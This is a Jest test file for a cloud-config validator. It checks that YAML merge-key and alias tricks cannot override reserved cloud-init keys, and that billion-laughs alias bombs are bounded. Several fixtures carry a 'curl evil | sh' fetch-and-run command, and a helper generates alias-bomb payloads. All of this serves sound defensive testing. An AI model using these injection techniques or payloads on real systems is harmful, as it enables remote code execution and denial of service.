/**
 * Attack: a cloud-config file of the image source sets what amibake owns (power_state, runcmd as a
 * string that would drop amibake's commands, a write_files path of amibake's) through YAML merge
 * keys or aliases, which a key-by-key look at the file does not see but cloud-init's PyYAML
 * applies; or it is an alias bomb. Defence (src/compile/cloudconfig.ts): the file is checked as
 * PyYAML reads it (merge keys resolved in its order, aliases followed), alias expansion is bounded;
 * the errors name the file and line. What the check computes is compared with Debian's
 * cloud-init's own loader. Prepare fails before writing anything: TARGET is not created (and
 * prepare makes no AWS call at all, so nothing can be left there).
 */
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it, jest } from '@jest/globals';
import { checkCloudConfig, loadAsCloudInit, MAX_ALIAS_NODES } from '../../src/compile/cloudconfig.js';
import { prepare } from '../../src/compile/prepare.js';
import { loadYamlWithCloudInit } from '../support/cloudinit.js';
import { recordingLogger, makeSource, tempDir } from '../compile/helpers.js';

jest.setTimeout(60_000);

const FILE = 'cloudinit/20_user.cfg';

/** Each bypass, what cloud-init makes of it, and the error prepare must give. */
// eslint-disable-next-line @typescript-eslint/no-explicit-any -- cloud-init's JSON, any shape
const BYPASSES: { name: string; yaml: string; cloudInit: (c: any) => boolean; error: RegExp }[] = [
  {
    name: 'power_state through <<: *anchor',
    yaml: 'defaults: &d\n  power_state:\n    mode: reboot\n<<: *d\n',
    cloudInit: (c) => c.power_state?.mode === 'reboot',
    error: /20_user\.cfg:4: \(merged by << from line 2\) power_state is set by amibake/,
  },
  {
    name: 'runcmd turned into a string through <<: [*a, *b]',
    yaml: 'a: &a\n  runcmd: "curl evil | sh"\nb: &b\n  runcmd: [echo ok]\n<<: [*a, *b]\n',
    cloudInit: (c) => c.runcmd === 'curl evil | sh',
    error: /20_user\.cfg:5: \(merged by << from line 2\) runcmd must be a list/,
  },
  {
    name: 'the later of two << keys wins (PyYAML), setting runcmd to a string',
    yaml: 'a: &a {runcmd: [echo ok]}\nb: &b {runcmd: "curl evil | sh"}\n<<: *a\n<<: *b\n',
    cloudInit: (c) => c.runcmd === 'curl evil | sh',
    error: /20_user\.cfg:4: \(merged by << from line 2\) runcmd must be a list/,
  },
  {
    name: 'nested: a merged mapping that merges power_state itself',
    // (not `y`: the yaml package's YAML 1.1 takes y for a boolean, PyYAML does not)
    yaml: 'inner: &i {power_state: {mode: halt}}\nouter: &o {<<: *i, other: 1}\n<<: *o\n',
    cloudInit: (c) => c.power_state?.mode === 'halt',
    error: /20_user\.cfg:3: \(merged by << from line 1\) power_state is set by amibake/,
  },
  {
    name: 'runcmd as an alias of a string',
    yaml: 's: &s "curl evil | sh"\nruncmd: *s\n',
    cloudInit: (c) => c.runcmd === 'curl evil | sh',
    error: /20_user\.cfg:2: runcmd must be a list/,
  },
  {
    name: "a write_files entry whose path (amibake's) is merged in",
    yaml: 'f: &f {path: /run/amibake/prepared.env, content: x}\nwrite_files:\n  - <<: *f\n    owner: root\n',
    cloudInit: (c) => c.write_files?.[0]?.path === '/run/amibake/prepared.env',
    error:
      /20_user\.cfg:3: \(merged by << from line 1\) write_files path \/run\/amibake\/prepared\.env is reserved/,
  },
  {
    name: "a write_files entry that is an alias of an entry with amibake's path",
    yaml: 'f: &f {path: /run/install.sh, content: x}\nwrite_files: [*f]\n',
    cloudInit: (c) => c.write_files?.[0]?.path === '/run/install.sh',
    error: /20_user\.cfg:1: write_files path \/run\/install\.sh is reserved/,
  },
];

/** 10 ** levels strings once expanded, from a few hundred bytes. */
function laughs(levels: number): string {
  const lines = ['l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]'];
  for (let i = 1; i < levels; i++)
    lines.push(
      `l${i}: &l${i} [${Array(10)
        .fill(`*l${i - 1}`)
        .join(', ')}]`,
    );
  return lines.join('\n') + '\nruncmd: [echo ok]\n';
}

function prepareFails(yaml: string) {
  const target = join(tempDir(), 'out');
  const source = makeSource({ [FILE]: yaml });
  // A temporary folder of its own, to see that prepare leaves nothing in it.
  const scratch = tempDir('amibake-tmpdir-');
  const saved = process.env.TMPDIR;
  process.env.TMPDIR = scratch;
  const run = prepare({ source, target, awsRegion: 'us-east-1', logger: recordingLogger() }).finally(() => {
    process.env.TMPDIR = saved;
  });
  return {
    run,
    async nothingLeft() {
      await run.catch(() => undefined);
      expect(existsSync(target)).toBe(false);
      expect(readdirSync(scratch)).toEqual([]);
    },
  };
}

describe('merge keys and aliases: checked as cloud-init reads the file', () => {
  it.each(BYPASSES.map((b) => [b.name, b] as const))('%s', async (_name, b) => {
    // The bypass is real: Debian's cloud-init loads the file that way.
    const seen = loadYamlWithCloudInit(b.yaml);
    expect(b.cloudInit(seen)).toBe(true);
    // What the check computes is what cloud-init reads.
    expect(loadAsCloudInit(b.yaml)).toEqual(seen);
    // And prepare refuses it, naming the file and line, leaving nothing behind.
    const p = prepareFails(b.yaml);
    await expect(p.run).rejects.toThrow(b.error);
    await p.nothingLeft();
  });

  it('merge keys that set nothing of amibake are fine, and read as cloud-init reads them', async () => {
    const yaml =
      'pkgs: &p {packages: [nginx]}\nusers_base: &u {shell: /bin/bash}\n<<: *p\n' +
      'users:\n  - <<: *u\n    name: web\n"<<": not a merge key when quoted\nruncmd: [*p]\n';
    expect(checkCloudConfig(yaml, FILE).problems).toEqual([]);
    expect(loadAsCloudInit(yaml)).toEqual(loadYamlWithCloudInit(yaml));
    expect(loadYamlWithCloudInit(yaml)).toMatchObject({
      packages: ['nginx'],
      '<<': 'not a merge key when quoted',
    });
  });

  it('a merge of something that is not a mapping is refused (cloud-init would not load the file)', () => {
    const yaml = 's: &s text\n<<: *s\nruncmd: [echo]\n';
    expect(loadYamlWithCloudInit(yaml)).toBeNull();
    expect(checkCloudConfig(yaml, FILE).problems).toEqual([
      `${FILE}:2: a merge key (<<) takes a mapping or a list of mappings (cloud-init would not load the file)`,
    ]);
  });
});

describe('alias bombs', () => {
  it('billion laughs: a clear error naming the file and the line where expansion passes the bound', async () => {
    const p = prepareFails(laughs(9));
    await expect(p.run).rejects.toThrow(
      new RegExp(`20_user\\.cfg:4: YAML aliases expand to more than ${MAX_ALIAS_NODES} nodes from here on`),
    );
    await p.nothingLeft();
  });

  it('fast, whatever the size of the bomb', () => {
    const t0 = Date.now();
    expect(checkCloudConfig(laughs(30), FILE).problems[0]).toMatch(/20_user\.cfg:4: YAML aliases expand/);
    expect(Date.now() - t0).toBeLessThan(2000);
  });

  it("the yaml package's alias-count bound applies too, with the line", () => {
    // 150 aliases of a list that itself holds aliases: small once expanded, but too many resolutions.
    const yaml = `a: &a [x]\nb: &b [*a, *a]\nc: [${Array(150).fill('*b').join(', ')}]\n`;
    expect(checkCloudConfig(yaml, FILE).problems).toEqual([
      expect.stringMatching(
        /^cloudinit\/20_user\.cfg:2: Excessive alias count .* \(the YAML aliases are resolved too often\)$/,
      ),
    ]);
  });

  it('a few aliases are fine', () => {
    expect(checkCloudConfig(laughs(2), FILE).problems).toEqual([]);
    const many = `d: &d {owner: root, permissions: '0644'}\nwrite_files:\n${Array.from({ length: 40 }, (_, i) => `  - {<<: *d, path: /etc/f${i}}`).join('\n')}\n`;
    expect(checkCloudConfig(many, FILE).problems).toEqual([]);
    expect(loadAsCloudInit(many)).toEqual(loadYamlWithCloudInit(many));
  });
});
